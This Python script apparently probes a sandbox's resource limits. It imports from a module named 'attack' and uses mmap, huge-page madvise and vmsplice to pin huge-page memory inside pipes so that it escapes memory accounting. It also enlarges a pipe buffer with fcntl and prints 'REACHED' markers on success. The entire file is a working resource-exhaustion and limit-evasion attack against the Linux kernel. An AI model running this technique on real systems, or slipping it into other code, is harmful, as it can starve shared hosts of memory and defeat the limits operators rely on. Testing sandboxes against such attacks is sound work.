import ctypes
import os
import time

from attack import *

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc.vmsplice.argtypes = [ctypes.c_int, ctypes.POINTER(Part), ctypes.c_size_t, ctypes.c_uint]
LARGE, SPLICE_F_NONBLOCK, MADV_HUGEPAGE = 2 << 20, 2, 14
pipes, kept = [], 0
for _ in range(24):
    pipes.append(os.pipe())
    area = libc.mmap(None, 16 * LARGE, 3, 0x22, -1, 0)
    start = -(-area // LARGE) * LARGE
    libc.madvise(start, 14 * LARGE, MADV_HUGEPAGE)
    for number in range(14):
        page = start + number * LARGE
        ctypes.memset(page, 1, LARGE)
        kept += libc.vmsplice(pipes[-1][1], ctypes.byref(Part(page, 4096)), 1, SPLICE_F_NONBLOCK) == 4096
    libc.munmap(area, 16 * LARGE)
if kept > 200:
    time.sleep(0.5)
    print("REACHED: kept in pipes", kept * 2, "MB", flush=True)

# What a pipe holds itself is memory of the kernel, too: a larger one is one that nobody counts.
try:
    import fcntl

    if fcntl.fcntl(pipes[0][1], 1031, 1 << 20) > 65536:
        print("REACHED: a pipe of 1 MB", flush=True)
except OSError:
    pass
